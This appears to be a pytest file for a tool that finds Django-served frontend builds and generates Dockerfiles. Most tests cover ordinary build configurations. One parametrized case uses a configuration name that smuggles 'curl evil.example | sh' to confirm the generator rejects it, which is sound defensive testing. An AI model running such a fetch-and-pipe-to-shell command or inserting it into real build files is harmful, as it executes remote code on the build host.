"""Frontend builds found anywhere in the repository, kept only when Django serves their output."""

from __future__ import annotations

import json
from datetime import date

import pytest

from generator.core import generate
from generator.detect import detect_path
from generator.detect.node_toolchain import node_eol_warning

MANAGE = (
    "import os, sys\n"
    "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n"
    "from django.core.management import execute_from_command_line\n"
    "execute_from_command_line(sys.argv)\n"
)


def django(settings: str = "", apps: tuple[str, ...] = (), subdir: str = "") -> dict[str, str]:
    """A startproject-like tree (manage.py in SUBDIR) with extra settings lines."""
    prefix = f"{subdir}/" if subdir else ""
    installed = ", ".join(repr(a) for a in ("django.contrib.staticfiles", *apps))
    return {
        f"{prefix}manage.py": MANAGE,
        f"{prefix}mysite/__init__.py": "",
        f"{prefix}mysite/settings.py": (
            "from pathlib import Path\n"
            "BASE_DIR = Path(__file__).resolve().parent.parent\n"
            "SECRET_KEY = 'x'\nALLOWED_HOSTS = ['*']\n"
            f"INSTALLED_APPS = [{installed}]\n"
            "STATIC_URL = 'static/'\nSTATIC_ROOT = BASE_DIR / 'staticfiles'\n" + settings
        ),
        f"{prefix}mysite/wsgi.py": "from django.core.wsgi import get_wsgi_application\n"
        "application = get_wsgi_application()\n",
        "requirements.txt": "Django>=5.2,<6\n",
    }


def package(scripts: dict[str, str], **extra: object) -> str:
    return json.dumps({"private": True, "scripts": scripts, **extra}, indent=2)


def test_vite_in_a_sibling_directory_writing_into_an_app_static_dir(make_tree):
    root = make_tree(
        {
            **django(apps=("shop", "django_vite")),
            "shop/__init__.py": "",
            "frontend/package.json": package({"dev": "vite", "build": "vue-tsc && vite build"}),
            "frontend/package-lock.json": "{}",
            "frontend/vite.config.ts": (
                "import { defineConfig } from 'vite'\n"
                "import vue from '@vitejs/plugin-vue'\n"
                "export default defineConfig({\n"
                "  plugins: [vue()],\n"
                "  build: {\n"
                "    manifest: true,\n"
                "    outDir: resolve(__dirname, '../shop/static/dist'),\n"
                "  },\n"
                "})\n"
            ),
        }
    )
    facts = detect_path(root)
    (fe,) = facts.frontends
    assert (fe.directory, fe.manager, fe.lockfile, fe.outputs) == (
        "frontend",
        "npm",
        "frontend/package-lock.json",
        ("shop/static/dist",),
    )
    assert "static directory of the app 'shop'" in fe.served_by
    assert any(
        e.file == "frontend/vite.config.ts" and e.line == 7 and "shop/static/dist" in e.why
        for e in fe.evidence
    )


def test_angular_output_path_in_a_django_static_directory(make_tree):
    angular = {
        "version": 1,
        "projects": {
            "paperless-ui": {
                "projectType": "application",
                "architect": {
                    "build": {
                        "builder": "@angular-devkit/build-angular:application",
                        "options": {
                            "outputPath": {
                                "base": "../src/documents/static/frontend",
                                "browser": "",
                            },
                            "index": "src/index.html",
                        },
                    },
                    "serve": {"builder": "@angular-devkit/build-angular:dev-server"},
                },
            }
        },
    }
    root = make_tree(
        {
            **django(subdir="src", apps=("documents.apps.DocumentsConfig",)),
            "src/documents/__init__.py": "",
            "src-ui/package.json": package(
                {"ng": "ng", "start": "ng serve", "build": "ng build --configuration production"},
                packageManager="pnpm@10.4.1",
            ),
            "src-ui/pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
            "src-ui/angular.json": json.dumps(angular, indent=2),
            "src-ui/.node-version": "22.11.0\n",
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.manager, fe.manager_version, fe.node_version) == (
        "src-ui",
        "pnpm",
        "10.4.1",
        "22",
    )
    assert fe.outputs == ("src/documents/static/frontend",)
    assert any(e.file == "src-ui/angular.json" for e in fe.evidence)


def test_angular_application_builder_writes_into_browser(make_tree):
    angular = {
        "projects": {
            "app": {
                "architect": {
                    "build": {
                        "builder": "@angular/build:application",
                        "options": {"outputPath": "../assets/ng"},
                    }
                }
            }
        }
    }
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'assets']\n"),
            "ui/package.json": package({"build": "ng build"}),
            "ui/angular.json": json.dumps(angular),
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("assets/ng/browser",)
    assert "STATICFILES_DIRS (mysite/settings.py:8) lists assets" in fe.served_by


def test_gulp_dest_under_staticfiles_dirs_and_missing_static_dir_warning(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static', BASE_DIR / 'vendor_static']\n"),
            "static/.gitkeep": "",
            "package.json": package({"build": "gulp build", "lint": "eslint ."}),
            "gulpfile.js": (
                "const { src, dest } = require('gulp');\n"
                "function styles() {\n"
                "  return src('sass/*.scss').pipe(sass()).pipe(dest('./static/local/css'));\n"
                "}\n"
            ),
        }
    )
    facts = detect_path(root)
    (fe,) = facts.frontends
    assert fe.outputs == ("static/local/css",)
    assert any(e.file == "gulpfile.js" and e.line == 3 for e in fe.evidence)
    messages = [str(w) for w in facts.warnings]
    assert any(
        "mysite/settings.py:8: STATICFILES_DIRS lists vendor_static, which is not in the "
        "repository" in m
        for m in messages
    ), messages


def test_webpack_with_django_webpack_loader_ships_the_stats_file(make_tree):
    root = make_tree(
        {
            **django(
                "STATICFILES_DIRS = [BASE_DIR / 'assets']\n"
                "WEBPACK_LOADER = {'DEFAULT': {'STATS_FILE': BASE_DIR / 'webpack-stats.json'}}\n",
                apps=("webpack_loader",),
            ),
            "package.json": package({"build": "webpack --mode production"}),
            "yarn.lock": "# yarn lockfile v1\n",
            "webpack.config.js": (
                "const path = require('path');\n"
                "const BundleTracker = require('webpack-bundle-tracker');\n"
                "module.exports = {\n"
                "  entry: './assets/js/index.js',\n"
                "  output: {\n"
                "    path: path.resolve(__dirname, 'assets/bundles'),\n"
                "    filename: '[name]-[contenthash].js',\n"
                "  },\n"
                "  plugins: [new BundleTracker({ path: __dirname, filename: 'webpack-stats.json' })],\n"
                "};\n"
            ),
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.manager, fe.yarn_berry) == ("yarn", False)
    assert fe.outputs == ("assets/bundles", "webpack-stats.json")
    assert "django-webpack-loader reads webpack-stats.json" in fe.served_by


def test_two_frontends_and_yarn_berry(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'admin-ui' / 'dist', BASE_DIR / 'site']\n"),
            "admin-ui/package.json": package({"build": "vite build"}, packageManager="yarn@4.5.1"),
            "admin-ui/yarn.lock": "__metadata:\n  version: 8\n",
            "admin-ui/.yarnrc.yml": "nodeLinker: node-modules\n",
            "site/package.json": package(
                {
                    "build": "npm run css && npm run js",
                    "css": "sass src/a.scss:css/a.css",
                    "js": "esbuild src/a.js --bundle --outfile=js/a.js",
                }
            ),
        }
    )
    admin, site = detect_path(root).frontends
    assert (admin.manager, admin.yarn_berry, admin.manager_version, admin.outputs) == (
        "yarn",
        True,
        "4.5.1",
        ("admin-ui/dist",),
    )
    assert (site.manager, site.outputs) == ("npm", ("site/css", "site/js"))


def test_lint_only_package_json_is_not_a_frontend(make_tree):
    root = make_tree(
        {
            **django(),
            "package.json": package({"lint": "eslint .", "format": "prettier --write ."}),
        }
    )
    facts = detect_path(root)
    assert facts.frontends == ()
    assert not any(e.fact == "frontend" for e in facts.evidence)


def test_docs_site_is_reported_and_skipped(make_tree):
    root = make_tree(
        {
            **django(),
            "docs/package.json": package(
                {"build": "docusaurus build", "start": "docusaurus start"}
            ),
        }
    )
    facts = detect_path(root)
    assert facts.frontends == ()
    skipped = [e for e in facts.evidence if e.fact == "frontend"]
    assert [(e.file, e.why) for e in skipped] == [
        ("docs/package.json", "script 'build' builds a documentation site: skipped")
    ]


def test_a_build_whose_output_nothing_serves_is_skipped(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static']\n"),
            "static/site.css": "",
            "widget/package.json": package({"build": "vite build"}),
        }
    )
    facts = detect_path(root)
    assert facts.frontends == ()
    (skipped,) = [e for e in facts.evidence if e.fact == "frontend"]
    assert skipped.file == "widget/package.json"
    assert skipped.why.startswith("script 'build' writes widget/dist, which nothing serves")


def test_vendored_and_test_package_json_files_are_ignored(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static']\n"),
            "static/vendor/chart/package.json": package({"build": "rollup -c"}),
            # A published library copied into static/: not private, no lockfile.
            "static/lib/chart/package.json": json.dumps(
                {"name": "chart", "version": "4.0.0", "scripts": {"build": "rollup -c --dir dist"}}
            ),
            "tests/js/package.json": package({"build": "vite build --outDir ../../static/t"}),
        }
    )
    assert detect_path(root).frontends == ()


def test_output_not_read_but_staticfiles_dirs_points_inside(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'client' / 'build' / 'static']\n"),
            "client/package.json": package({"build": "react-scripts build"}),
            "client/package-lock.json": "{}",
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("client/build/static",)


def test_build_at_the_project_root_with_unknown_output_copies_the_directory(make_tree):
    root = make_tree(
        {
            **django(),
            "package.json": package({"build": "node build.mjs"}),
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.outputs, fe.output_dir) == (".", (), None)


def test_template_loading_the_bundle_when_staticfiles_dirs_is_computed(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [some_helper('assets')]\n"),
            "mysite/templates/base.html": "{% load static %}\n<script src=\"{% static 'bundles/app.js' %}\">",
            "js/package.json": package(
                {"build": "esbuild app.js --bundle --outdir=../assets/bundles"}
            ),
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("assets/bundles",)
    assert "mysite/templates/base.html:2 loads {% static 'bundles/app.js' %}" in fe.served_by


def test_node_version_sources(make_tree):
    root = make_tree(
        {
            **django(
                "STATICFILES_DIRS = [BASE_DIR / 'a' / 'dist', BASE_DIR / 'b' / 'dist', BASE_DIR / 'c' / 'dist']\n"
            ),
            "a/package.json": package({"build": "vite build"}, volta={"node": "20.11.1"}),
            "b/package.json": package({"build": "vite build"}, engines={"node": "^18.18 || ^20.9"}),
            "c/package.json": package({"build": "vite build"}, engines={"node": ">=18"}),
            "c/.nvmrc": "lts/iron\n",
        }
    )
    a, b, c = detect_path(root).frontends
    assert (a.node_version, a.node_version_source) == ("20", "a/package.json")
    assert (b.node_version, b.node_version_source) == ("20", "b/package.json")
    assert (c.node_version, c.node_version_source) == ("20", "c/.nvmrc")


def test_engines_range_the_default_satisfies_states_no_version(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'dist']\n"),
            "package.json": package({"build": "vite build"}, engines={"node": ">=18"}),
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.node_version is None


def test_broken_package_json_is_a_warning(make_tree):
    root = make_tree({**django(), "package.json": "{not json"})
    facts = detect_path(root)
    assert facts.frontends == ()
    assert any(w.file == "package.json" and w.line == 1 for w in facts.warnings)


def test_node_end_of_life_warning():
    assert node_eol_warning("22", date(2026, 11, 24)) is None
    assert "Node 20 reached end of life on 2026-04-30" in node_eol_warning("20", date(2026, 11, 24))
    assert node_eol_warning("99", date(2026, 11, 24)) is None  # unknown: no guess


def test_copy_scripts_and_dev_engines(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static']\n"),
            "static/.gitkeep": "",
            "package.json": package(
                {
                    "build": "npm-run-all -p build-* cp-*",
                    "build-css": "sass --style=compressed scss/style.scss static/css/style.css",
                    "cp-fonts": 'cpx "node_modules/inter-ui/Inter (web)/*" static/fonts',
                    "cp-jquery": "shx cp node_modules/jquery/dist/jquery.js static/js/vendor",
                },
                devEngines={"runtime": {"name": "node", "version": "^22.0.0"}},
            ),
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("static/css", "static/fonts", "static/js/vendor")
    assert (fe.node_version, fe.node_version_source) == ("22", "package.json")


def test_an_output_path_a_dockerfile_cannot_name_is_not_taken(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static']\n"),
            "static/.gitkeep": "",
            "ui/package.json": package({"build": "esbuild a.js --outdir='../static/my dist'"}),
        }
    )
    facts = detect_path(root)
    assert facts.frontends == ()
    assert "could not be read" in next(e.why for e in facts.evidence if e.fact == "frontend")


def test_angular_build_configuration_overrides_the_output_path(make_tree):
    """paperless-ngx's shape: the production configuration writes into a Django app's static/."""
    angular = {
        "projects": {
            "paperless-ui": {
                "projectType": "application",
                "architect": {
                    "build": {
                        "builder": "@angular-builders/custom-webpack:browser",
                        "options": {"outputPath": {"base": "dist/paperless-ui", "browser": ""}},
                        "configurations": {
                            "production": {
                                "outputPath": {
                                    "base": "../src/documents/static/frontend/",
                                    "browser": "",
                                }
                            }
                        },
                    }
                },
            }
        }
    }
    root = make_tree(
        {
            **django(subdir="src", apps=("documents.apps.DocumentsConfig",)),
            "src/documents/__init__.py": "",
            "src-ui/package.json": package({"build": "ng build --configuration production"}),
            "src-ui/angular.json": json.dumps(angular, indent=2),
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("src/documents/static/frontend",)
    assert any(e.file == "src-ui/angular.json" and e.line == 17 for e in fe.evidence)


def _angular_with_production_output(default_configuration: str | None) -> dict:
    build: dict = {
        "builder": "@angular/build:application",
        "options": {"outputPath": {"base": "dist/ui", "browser": ""}},
        "configurations": {
            "production": {
                "outputPath": {"base": "../src/documents/static/frontend/", "browser": ""}
            },
            "development": {"optimization": False},
        },
    }
    if default_configuration is not None:
        build["defaultConfiguration"] = default_configuration
    return {"projects": {"ui": {"projectType": "application", "architect": {"build": build}}}}


@pytest.mark.parametrize(
    ("manager_files", "command"),
    [
        ({"src-ui/package-lock.json": "{}"}, "npm run build -- --configuration production"),
        (
            {"src-ui/pnpm-lock.yaml": "lockfileVersion: '9.0'\n"},
            "pnpm run build --configuration production",
        ),
    ],
)
def test_angular_default_build_unserved_but_a_configuration_is_served(
    make_tree, manager_files: dict[str, str], command: str
):
    """paperless-ngx as shipped: `"build": "ng build"` with an empty defaultConfiguration writes
    dist/, which nothing serves; the production configuration writes into an app's static/ (their
    own Dockerfile runs `ng build --configuration production`). The build is kept with that
    configuration, and the Dockerfile passes it on the way each manager takes arguments."""
    root = make_tree(
        {
            **django(subdir="src", apps=("documents",)),
            "src/documents/__init__.py": "",
            "src-ui/package.json": package({"build": "ng build"}),
            "src-ui/angular.json": json.dumps(_angular_with_production_output(""), indent=2),
            **manager_files,
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.build_args == ("--configuration", "production")
    assert fe.outputs == ("src/documents/static/frontend",)
    assert "configuration 'production' writes src/documents/static/frontend" in fe.served_by
    dockerfile = next(iter(generate(root).files.values()))
    assert f"RUN {command}" in dockerfile or f"&& {command}" in dockerfile, dockerfile


@pytest.mark.parametrize(
    ("script", "default_configuration", "configuration"),
    [
        ("ng build && node copy.js", "", "production"),  # arguments would reach `node copy.js`
        ("ng build", "development", "production"),  # a configuration is already chosen
        ("ng build", "", "prod; curl evil.example | sh"),  # not a name to put on a RUN line
    ],
)
def test_angular_configuration_is_not_chosen_when_arguments_cannot_reach_it_safely(
    make_tree, script: str, default_configuration: str, configuration: str
):
    angular = _angular_with_production_output(default_configuration)
    build = angular["projects"]["ui"]["architect"]["build"]
    build["configurations"] = {configuration: build["configurations"]["production"]}
    root = make_tree(
        {
            **django(subdir="src", apps=("documents",)),
            "src/documents/__init__.py": "",
            "src-ui/package.json": package({"build": script}),
            "src-ui/angular.json": json.dumps(angular),
        }
    )
    facts = detect_path(root)
    assert facts.frontends == ()
    assert any("nothing serves" in e.why for e in facts.evidence if e.fact == "frontend")


def test_django_tailwind_theme_app(make_tree):
    """django-tailwind's `tailwind init` layout: the build lives in theme/static_src/."""
    scripts = {
        "start": "npm run dev",
        "build": "npm run build:clean && npm run build:tailwind",
        "build:clean": "rimraf ../static/css/dist",
        "build:tailwind": (
            "cross-env NODE_ENV=production tailwindcss --postcss -i ./src/styles.css "
            "-o ../static/css/dist/styles.css --minify"
        ),
        "dev": "cross-env NODE_ENV=development tailwindcss --postcss -i ./src/styles.css "
        "-o ../static/css/dist/styles.css -w",
    }
    root = make_tree(
        {
            **django(apps=("tailwind", "theme")),
            "theme/__init__.py": "",
            "theme/apps.py": "from django.apps import AppConfig\n",
            "theme/static_src/package.json": package(scripts),
            "theme/static_src/package-lock.json": "{}",
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.outputs) == ("theme/static_src", ("theme/static/css/dist",))
    assert "static directory of the app 'theme'" in fe.served_by


def test_a_workspace_member_installs_at_the_workspace_root(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'packages' / 'web' / 'dist']\n"),
            "package.json": package({"lint": "eslint ."}, workspaces=["packages/*"]),
            "package-lock.json": "{}",
            "packages/web/package.json": package({"build": "vite build"}),
            "packages/ui-kit/package.json": package({"build": "tsc"}),
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.workspace_root, fe.lockfile) == (
        "packages/web",
        ".",
        "package-lock.json",
    )


def test_pnpm_without_packagemanager_takes_the_lockfile_formats_major(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'ui' / 'dist']\n"),
            "ui/package.json": package({"build": "vite build"}),
            "ui/pnpm-lock.yaml": "lockfileVersion: '6.0'\n",
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.manager, fe.manager_version, fe.manager_pinned_by) == ("pnpm", "8", "lockfile")


# ---------------------------------------------------------------- served from node_modules


def _dockerfile(root) -> str:
    return next(iter(generate(root).files.values()))


def test_django_npm_finder_installs_node_modules_where_npm_root_path_says(make_tree):
    # django-npm reads NPM_ROOT_PATH from the working directory (the project's, where
    # collectstatic runs): "../" is the repository root, beside package.json.
    root = make_tree(
        {
            **django(
                "STATICFILES_FINDERS = [\n"
                "    'npm.finders.NpmFinder',\n"
                "    'django.contrib.staticfiles.finders.FileSystemFinder',\n"
                "]\n"
                "NPM_ROOT_PATH = '../'\n",
                subdir="src",
            ),
            "package.json": json.dumps({"dependencies": {"bootstrap": "^5.3.0"}}, indent=2),
            "package-lock.json": "{}",
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.build_script, fe.outputs, fe.production_only) == (
        ".",
        "",
        ("node_modules",),
        True,
    )
    assert "NpmFinder" in fe.served_by and "NPM_ROOT_PATH '../'" in fe.served_by
    assert any(e.file == "src/mysite/settings.py" for e in detect_path(root).settings.evidence)
    assert any(e.file == "package.json" and e.line == 2 for e in fe.evidence)
    generated = generate(root)
    dockerfile = next(iter(generated.files.values()))
    assert "FROM node:" in dockerfile and " AS assets" in dockerfile
    assert "npm ci --omit=dev" in dockerfile
    assert "npm run" not in dockerfile
    copy = "COPY --from=assets /src/node_modules /app/node_modules"
    assert copy in dockerfile
    assert dockerfile.index(copy) < dockerfile.index("manage.py collectstatic")
    assert any(
        "npm ci --omit=dev (no build script)" in d.why and "NpmFinder" in d.why
        for d in generated.decisions
    )


def test_django_npm_without_npm_root_path_reads_the_project_directory(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_FINDERS = ['npm.finders.NpmFinder']\n", subdir="web"),
            "web/package.json": json.dumps({"dependencies": {"htmx.org": "2.0.0"}}),
            "web/yarn.lock": "# yarn lockfile v1\n",
        }
    )
    (fe,) = detect_path(root).frontends
    assert (fe.directory, fe.manager, fe.outputs) == ("web", "yarn", ("web/node_modules",))
    dockerfile = _dockerfile(root)
    assert "yarn install --frozen-lockfile --production=true" in dockerfile
    assert "COPY --from=assets /src/web/node_modules /app/web/node_modules" in dockerfile


def test_staticfiles_dirs_inside_node_modules(make_tree):
    root = make_tree(
        {
            **django(
                "STATICFILES_DIRS = [\n"
                "    ('vendor', BASE_DIR / 'node_modules/bootstrap/dist'),\n"
                "    BASE_DIR / 'node_modules' / '@fontsource' / 'inter',\n"
                "]\n"
            ),
            "package.json": json.dumps(
                {
                    "dependencies": {"bootstrap": "^5.3.0"},
                    "devDependencies": {"@fontsource/inter": "^5.0.0", "eslint": "^9"},
                }
            ),
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
        }
    )
    facts = detect_path(root)
    (fe,) = facts.frontends
    assert fe.outputs == ("node_modules/bootstrap/dist", "node_modules/@fontsource/inter")
    # @fontsource/inter is only a devDependency: a production-only install would leave it out.
    assert not fe.production_only
    assert "STATICFILES_DIRS" in fe.served_by
    assert not any("STATICFILES_DIRS lists" in w.message for w in facts.warnings)
    dockerfile = _dockerfile(root)
    assert "pnpm install --frozen-lockfile\n" in dockerfile
    assert (
        "COPY --from=assets /src/node_modules/bootstrap/dist /app/node_modules/bootstrap/dist"
        in dockerfile
    )
    assert (
        "COPY --from=assets /src/node_modules/@fontsource/inter "
        "/app/node_modules/@fontsource/inter" in dockerfile
    )


def test_node_modules_named_nowhere_in_the_settings_adds_nothing(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'static']\n"),
            "static/app.css": "",
            "package.json": json.dumps({"dependencies": {"bootstrap": "^5.3.0"}}),
            "package-lock.json": "{}",
        }
    )
    assert detect_path(root).frontends == ()
    assert "FROM node:" not in _dockerfile(root)


def test_node_modules_served_without_a_package_json_warns(make_tree):
    root = make_tree({**django("STATICFILES_DIRS = [BASE_DIR / 'node_modules' / 'htmx.org']\n")})
    facts = detect_path(root)
    assert facts.frontends == ()
    assert any("node_modules/htmx.org" in w.message for w in facts.warnings)


def test_yarn_berry_install_only_writes_node_modules(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'node_modules']\n"),
            "package.json": json.dumps(
                {"packageManager": "yarn@4.5.0", "dependencies": {"alpinejs": "^3"}}
            ),
            "yarn.lock": "__metadata:\n  version: 8\n",
            ".yarnrc.yml": "nodeLinker: pnp\n",
        }
    )
    dockerfile = _dockerfile(root)
    # Plug'n'Play writes no node_modules: the settings read one, so the install writes it.
    assert "YARN_NODE_LINKER=node-modules yarn install --immutable" in dockerfile
    assert "COPY --from=assets /src/node_modules /app/node_modules" in dockerfile


def test_a_node_modules_path_copy_cannot_name_copies_the_whole_node_modules(make_tree):
    root = make_tree(
        {
            **django("STATICFILES_DIRS = [BASE_DIR / 'node_modules/inter-ui/Inter (web)']\n"),
            "package.json": json.dumps({"dependencies": {"inter-ui": "^3"}}),
            "package-lock.json": "{}",
        }
    )
    (fe,) = detect_path(root).frontends
    assert fe.outputs == ("node_modules",)
    assert "COPY --from=assets /src/node_modules /app/node_modules" in _dockerfile(root)


def test_a_build_and_node_modules_served_from_the_same_package_json(make_tree):
    root = make_tree(
        {
            **django(
                "STATICFILES_DIRS = [BASE_DIR / 'static', BASE_DIR / 'node_modules/htmx.org/dist']\n"
            ),
            "static/.gitkeep": "",
            "package.json": json.dumps(
                {
                    "scripts": {"build": "esbuild src/app.js --bundle --outdir=static/dist"},
                    "dependencies": {"htmx.org": "2.0.0"},
                    "devDependencies": {"esbuild": "0.24.0"},
                }
            ),
            "package-lock.json": "{}",
        }
    )
    dockerfile = _dockerfile(root)
    # The build gets its devDependencies; the packages served from node_modules only the
    # production ones, in a stage of their own.
    assert "FROM node:24-slim AS assets-root\n" in dockerfile
    assert "FROM node:24-slim AS node-modules-root\n" in dockerfile
    assert "npm ci --include=dev" in dockerfile and "npm ci --omit=dev" in dockerfile
    assert "COPY --from=assets-root /src/static/dist /app/static/dist" in dockerfile
    assert (
        "COPY --from=node-modules-root /src/node_modules/htmx.org/dist "
        "/app/node_modules/htmx.org/dist" in dockerfile
    )
